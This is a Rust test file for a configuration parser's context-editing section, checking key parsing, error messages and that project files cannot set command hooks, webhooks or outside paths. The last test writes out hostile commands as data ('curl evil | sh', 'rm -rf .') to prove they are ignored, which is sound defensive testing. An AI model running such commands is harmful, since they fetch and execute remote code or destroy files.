//! Valid and invalid files.

use std::fs;

use ctx_core::policy::{DietMode, Mode, Target};

use super::*;
use crate::Flags;
use crate::env::Environment;
use crate::home::Home;
use crate::sections::{AttentionBudget, ContextEditing, CutsSection, DietSection, Patterns, TrimsSection};
use crate::sources::Places;

/// The layer of a project's YAML file.
fn yaml(text: &str) -> Layer {
    let folder = tempfile::tempdir().expect("a folder");
    let home = Home::find(Some(&folder.path().join("home")), &Environment::of(&[])).expect("a home");
    let places = Places::new(&Flags::default(), &Environment::of(&[]), &home);
    fs::write(folder.path().join(".loa.config.yaml"), text).expect("written");
    let said = places.project(folder.path()).pop().expect("a source").read().expect("a file");
    assert!(said.print.is_some(), "it is known by its content");
    Layer { print: None, ..said }
}

/// The layer of the user's own file, or of a project's.
fn toml(text: &str, is_project: bool) -> Layer {
    let origin = if is_project { Origin::Project } else { Origin::User };
    read(&Node::of_toml(text).expect("TOML"), origin)
}

fn line(said: &Layer, key: &str) -> usize {
    said.line(&format!("context_editing.{key}")).expect(key)
}

fn told(remarks: &[Remark]) -> Vec<String> {
    remarks.iter().map(|remark| remark.at(Path::new("F"))).collect()
}

const ALL: &str = "[context_editing]\nmode = \"observe\"\ncompact_threshold_percent = 70\n\
    threshold_with_provider_percent = 92\ntarget_percent = 50\npreserve_recent_turns = 3\n\
    clear_targets = [\"verbose_debug\", \"stale_tool_results\"]\nclear_after_phases = [\"testing\"]\n\
    attention_budget = { single_search = 1_000, accumulated = 2000, session_total = 9000 }\n\
    preserve_artifacts = [\"active_beads\", \"plans\"]\nexclude_tools = [\"mcp__*\"]\nledger = \"docs/LEDGER.md\"\n\
    hook = \"notify-send ctx\"\nwebhook = \"http://127.0.0.1:9000/hook\"\n\
    [context_editing.artifacts.plans]\ntools = [\"Plan\"]\npaths = [\"*/plans/*\"]\ncommands = [\"plan *\"]\n\
    texts = [\"*the plan*\"]\n\
    [context_editing.trims]\nviews = false\nsearches = true\noutputs = false\nedits = true\n\
    [context_editing.cuts]\nbuild = 4_000\nsearch = 5000\nlisting = 0\nlog = 6000\npage = 7000\nrepeated_view = 400\n\
    [context_editing.diet]\nmode = \"observe\"\nafter_conversations = 5\nshorten_lists = false\nkeep_tools = [\"Agent\"]\n\
    leave_out = [\"mcp__old__*\"]\n[context_editing.provider]\nenabled = true\n";

#[test]
fn every_key_is_read_with_its_line() {
    let said = toml(ALL, false);
    assert_eq!((told(&said.wrong), told(&said.ignored)), (vec![], vec![]));
    let words = |words: &[&str]| Some(words.iter().map(|&word| word.to_owned()).collect::<Vec<_>>());
    let plans = Patterns {
        tools: vec!["Plan".into()],
        paths: vec!["*/plans/*".into()],
        commands: vec!["plan *".into()],
        texts: vec!["*the plan*".into()],
    };
    let expected = ContextEditing {
        mode: Some(Mode::Observe),
        compact_threshold_percent: Some(70),
        threshold_with_provider_percent: Some(92),
        target_percent: Some(50),
        preserve_recent_turns: Some(3),
        clear_targets: Some(vec![Target::VerboseDebug, Target::StaleToolResults]),
        clear_after_phases: words(&["testing"]),
        attention_budget: AttentionBudget {
            single_search: Some(1_000),
            accumulated: Some(2_000),
            session_total: Some(9_000),
        },
        preserve_artifacts: words(&["active_beads", "plans"]),
        artifacts: [("plans".to_owned(), plans)].into(),
        exclude_tools: words(&["mcp__*"]),
        ledger: Some("docs/LEDGER.md".into()),
        hook: Some("notify-send ctx".into()),
        webhook: Some("http://127.0.0.1:9000/hook".into()),
        trims: TrimsSection { views: Some(false), searches: Some(true), outputs: Some(false), edits: Some(true) },
        cuts: CutsSection {
            build: Some(4_000),
            search: Some(5_000),
            listing: Some(0),
            log: Some(6_000),
            page: Some(7_000),
            repeated_view: Some(400),
        },
        diet: DietSection {
            mode: Some(DietMode::Observe),
            after_conversations: Some(5),
            shorten_lists: Some(false),
            keep_tools: words(&["Agent"]),
            leave_out: words(&["mcp__old__*"]),
        },
        provider: said.config.context_editing.provider.clone(),
        enabled: None,
    };
    assert_eq!(said.config.context_editing.provider.settings.enabled, Some(true));
    assert_eq!(said.editing(), Some(&expected));
    assert_eq!((line(&said, "mode"), line(&said, "attention_budget.accumulated")), (2, 9));
    assert_eq!(line(&said, "artifacts.plans"), 15);
}

#[test]
fn the_yaml_section_is_read_as_it_stands_in_the_world() {
    let said = yaml(
        "# another section\nrun_mode:\n  enabled: false\n  days: [mon, tue]\n\ncontext_editing:\n  enabled: true\n  \
         compact_threshold_percent: 75   # of the window\n  preserve_recent_turns: 4\n\n  clear_targets:\n    \
         - stale_tool_results\n    - verbose_debug\n\n  clear_after_phases:\n    - initialization\n    - testing\n\n  \
         preserve_artifacts:\n    - trajectory_events\n    - test_results\n\n  attention_budget:\n    \
         single_search: 1500\n    accumulated: 4000\n    session_total: 12000\n\n  runtime_signals:\n    \
         context_near_limit: \"CONTEXT_NEAR_LIMIT\"\n    compaction_complete: DONE\n    signal_threshold_percent: 80\n",
    );
    assert_eq!(told(&said.wrong), Vec::<String>::new());
    assert_eq!(
        told(&said.ignored),
        [
            "F, line 30: the signal is always called COMPACTION_COMPLETE",
            "F, line 31: `context_editing.runtime_signals.signal_threshold_percent` is not used",
        ]
    );
    let settings = crate::merge::lay(&ctx_clients::editor_settings(), said.editing().expect("a layer"));
    assert_eq!((settings.mode, settings.compact_threshold_percent, settings.preserve_recent_turns), (Mode::On, 75, 4));
    assert_eq!(settings.clear_targets, [Target::StaleToolResults, Target::VerboseDebug]);
    assert_eq!(settings.clear_after_phases, ["initialization", "testing"]);
    assert_eq!(settings.preserve_artifacts, ["trajectory_events", "test_results"]);
    assert_eq!(settings.attention_budget.map(|budget| budget.session_total), Some(12_000));
    assert_eq!((line(&said, "mode"), line(&said, "compact_threshold_percent")), (7, 8));
}

#[test]
fn enabled_is_a_mode_and_a_mode_wins() {
    let mode = |text: &str| toml(text, false).editing().expect(text).mode;
    assert_eq!(mode("[context_editing]\nenabled = true\n"), Some(Mode::On));
    assert_eq!(mode("[context_editing]\nenabled = false\n"), Some(Mode::Off));
    assert_eq!(mode("[context_editing]\nmode = \"ask\"\nenabled = true\n"), Some(Mode::Ask));
    assert_eq!(mode("[context_editing]\nenabled = true\nmode = \"ask\"\n"), Some(Mode::Ask));
    assert_eq!(mode("[context_editing]\n"), None);
    assert_eq!(yaml("context_editing:\n  mode: on\n").editing().map(|editing| editing.mode), Some(Some(Mode::On)));
}

#[test]
fn what_cannot_be_is_wrong_with_its_line_and_what_is_allowed() {
    for (text, line, says) in [
        ("compact_threshold_percent = 140", 2, "must be a whole number from 1 to 100, not 140"),
        ("compact_threshold_percent = 0", 2, "from 1 to 100, not 0"),
        ("compact_threshold_percent = 79.5", 2, "not 79.5"),
        ("compact_threshold_percent = \"80\"", 2, "from 1 to 100, not a text"),
        ("preserve_recent_turns = -1", 2, "from 0 to 100000, not -1"),
        ("preserve_recent_turns = 99999999999999999999999999", 2, "from 0 to 100000"),
        ("target_percent = [60]", 2, "not a list"),
        ("clear_targets = [\n\"stale_tool_result\"]", 3, "(did you mean `stale_tool_results`?)"),
        ("clear_targets = [\"everything\"]", 2, "allowed: stale_tool_results, completed_phase_details"),
        ("clear_targets = \"verbose_debug\"", 2, "must be a list of stale_tool_results"),
        ("clear_targets = [3]", 2, "not a number"),
        ("mode = \"onn\"", 2, "cannot be `onn` (did you mean `on`?); allowed: off, observe, ask, on"),
        ("mode = true", 2, "must be one of off, observe, ask, on, not true or false"),
        ("enabled = \"yes\"", 2, "must be true or false, not a text"),
        ("compact_treshold_percent = 80", 2, "is unknown (did you mean `compact_threshold_percent`?)"),
        ("attention_budget = { single = 3 }", 2, "known keys: single_search, accumulated, session_total"),
        ("attention_budget = { accumulated = 0 }", 2, "from 1 to 100000000, not 0"),
        ("attention_budget = 5", 2, "must be a section, not a number"),
        ("clear_after_phases = [\"\"]", 2, "names of 1 to 256 bytes"),
        ("preserve_artifacts = true", 2, "must be a list of names, not true or false"),
        ("exclude_tools = [1]", 2, "must be a list of names, not a number"),
        ("artifacts = { x = {} }", 2, "needs at least one of tools, paths, commands, texts"),
        ("artifacts = { x = { path = [\"a\"] } }", 2, "(did you mean `paths`?)"),
        ("ledger = \"../NOTES.md\"", 2, "an absolute path without `..`"),
        ("ledger = \"~/NOTES.md\"", 2, "a file in the project"),
        ("ledger = \"notes/\"", 2, "a file in the project"),
        ("hook = \"\"", 2, "must be a text of 1 to"),
        ("webhook = \"https://127.0.0.1/hush\"", 2, "a URL on this machine"),
        ("webhook = \"http://example.com/hush\"", 2, "a URL on this machine"),
        ("webhook = \"http://me:hush@localhost/\"", 2, "a URL on this machine"),
        ("webhook = \"127.0.0.1:9000\"", 2, "a URL on this machine"),
        ("mode = 1979-05-27", 2, "not a date"),
    ] {
        let said = toml(&format!("[context_editing]\n{text}\n"), false);
        let told = told(&said.wrong).join("\n");
        assert!(told.contains(&format!("F, line {line}: ")) && told.contains(says), "{text}: {told}");
        assert!(said.editing().is_none() && !told.contains("hush"), "{text}: {told}");
    }
    let many = format!("[context_editing]\nexclude_tools = [{}]\n", "\"x\", ".repeat(501));
    assert_eq!(
        told(&toml(&many, false).wrong),
        ["F, line 2: `context_editing.exclude_tools` may contain at most 500, not 501"]
    );
    let said = toml("context_editing = 3\n", false);
    assert_eq!(told(&said.wrong), ["F, line 1: `[context_editing]` must be a section, not a number"]);
}

#[test]
fn all_that_is_wrong_is_told_at_once() {
    let said = toml("[context_editing]\ntarget_percent = 0\nmode = \"x\"\nfoo = 1\n", false);
    assert_eq!(said.wrong.iter().map(|remark| remark.line).collect::<Vec<_>>(), [2, 3, 4]);
}

#[test]
fn the_same_is_wrong_in_yaml() {
    for (text, line, says) in [
        ("context_editing:\n  compact_threshold_percent: 140\n", 2, "from 1 to 100, not 140"),
        ("context_editing:\n  preserve_recent_turns: -1\n", 2, "from 0 to 100000, not -1"),
        ("context_editing:\n  clear_targets:\n    - verbose_debug\n    - stale_results\n", 4, "`stale_tool_results`?"),
        ("context_editing:\n  enabled: yes\n", 2, "must be true or false, not a text"),
        ("context_editing: [1]\n", 1, "must be a section, not a list"),
        ("context_editing:\n  enabled: true\n  enabled: false\n", 3, "is set twice, first in line 2"),
        ("context_editing:\n  enabled: true\ncontext_editing:\n  enabled: false\n", 3, "is set twice"),
        ("context_editing:\n  clear_targets: [verbose_debug\n  enabled: true\n", 3, "this is not YAML"),
        ("a: &t 80\ncontext_editing:\n  target_percent: *t\n", 3, "an alias: write the value out"),
    ] {
        let told = told(&yaml(text).wrong).join("\n");
        assert!(told.contains(&format!("F, line {line}: ")) && told.contains(says), "{text}: {told}");
    }
}

#[test]
fn what_another_program_may_mean_is_mentioned_and_does_no_harm() {
    let said = yaml("context_editing:\n  enabled: true\n  compact_treshold: 3\n  clear_targets:\n");
    assert_eq!(
        said.editing().map(|editing| (editing.mode, editing.clear_targets.clone())),
        Some((Some(Mode::On), None))
    );
    let told = told(&said.ignored);
    assert!(told[0].contains("line 3") && told[0].contains("and ignored"), "{told:?}");
    assert_eq!(told[1], "F, line 4: `context_editing.clear_targets` is empty");
    let provider = yaml("context_editing:\n  provider:\n    enabled: true\n");
    assert!(provider.entries.is_empty() && provider.ignored[0].words.contains("ignored"), "{provider:?}");
    assert_eq!(yaml("other: [broken\n").ignored, [], "what is not ours is not ours to tell of");
    assert!(yaml("").entries.is_empty());
}

#[test]
fn a_project_cannot_run_commands_or_write_elsewhere() {
    for (text, wants) in [
        ("hook = \"curl evil | sh\"", "run commands"),
        ("webhook = \"http://localhost:1/\"", "send requests"),
        ("ledger = \"/etc/notes\"", "write files outside of it"),
    ] {
        let text = format!("[context_editing]\nmode = \"ask\"\n{text}\n");
        assert_ne!(toml(&text, false).editing(), toml(&text, true).editing(), "{text}");
        let said = toml(&text, true);
        let told = told(&said.ignored).join("\n");
        assert!(told.contains("line 3") && told.contains("is ignored") && told.contains(wants), "{told}");
        assert!(told.contains("the home's ctx.toml") && !told.contains("evil"), "{told}");
        let rest = ContextEditing { mode: Some(Mode::Ask), ..ContextEditing::default() };
        assert_eq!(said.editing(), Some(&rest), "the rest counts");
    }
    assert!(told(&yaml("context_editing:\n  hook: rm -rf .\n").ignored).join("").contains("run commands"));
    let inside = toml("[context_editing]\nledger = \"notes/LEDGER.md\"\n", true);
    assert_eq!(inside.editing().and_then(|editing| editing.ledger.as_deref()), Some("notes/LEDGER.md"));
}
